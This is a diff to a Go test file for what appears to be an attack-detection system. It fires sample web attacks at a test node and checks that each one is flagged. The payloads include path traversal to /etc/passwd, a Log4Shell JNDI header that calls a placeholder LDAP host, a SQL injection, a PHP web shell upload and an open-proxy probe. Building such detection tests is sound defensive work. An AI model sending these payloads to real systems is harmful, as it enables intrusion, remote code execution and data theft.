@@ -85,9 +85,12 @@ func curlHTTP(t *testing.T, n *node, a *attacker) {
 	curl(t, a, "--path-as-is", "http://"+node4+"/../../../../etc/passwd")
 	curl(t, a, "-H", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}", "http://"+node4+"/")
 	curl(t, a, "http://"+node4+"/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-")
-	curl(t, a, "-F", "file=@"+program(), "-F", "x=<?php system($_GET[0]);", "http://"+node4+"/upload.php", "--limit-rate", "80M", "-o", "/dev/null")
+	shell := filepath.Join(t.TempDir(), "up.php")
+	write(t, shell, "<?php system($_GET['c']); // "+a.ip+"\n")
+	curl(t, a, "-F", "file=@"+shell, "--form-string", "note=<b>", "http://"+node4+"/upload.php")
 	curl(t, a, "--data", "log=admin&pwd=hunter2", "http://"+node4+"/wp-login.php")
 	n.awaitSignals(t, a.ip, "secrets.env-file", "secrets.cloud-credentials", "secrets.version-control", "web.path-traversal", "web.jndi-injection", "web.sql-injection")
+	contains(t, "evidence of an upload", n.evidence(t, n.signals(t, a.ip)), "system($_GET['c']); // "+a.ip)
 	if r := a.run(t, 20*time.Second, "curl", "-sS", "-x", "http://"+node4+":80", "http://198.51.100.9/"); r.code == 0 && strings.Contains(r.out, "198.51.100.9") {
 		t.Errorf("as a proxy: %s", r)
 	}
